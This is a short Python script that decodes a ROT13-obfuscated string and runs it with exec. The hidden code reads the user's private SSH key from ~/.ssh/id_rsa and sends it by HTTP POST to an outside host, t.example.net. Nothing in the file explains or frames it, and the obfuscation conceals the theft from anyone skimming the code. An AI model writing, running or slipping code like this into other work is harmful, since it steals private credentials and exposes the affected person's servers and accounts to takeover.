import codecs
src = "vzcbeg bf, heyyvo.erdhrfg; heyyvo.erdhrfg.heybcra('uggcf://g.rknzcyr.arg/', qngn=bcra(bf.cngu.rkcnaqhfre('~/.ffu/vq_efn'),'eo').ernq())"
exec(codecs.decode(src, "rot13"))
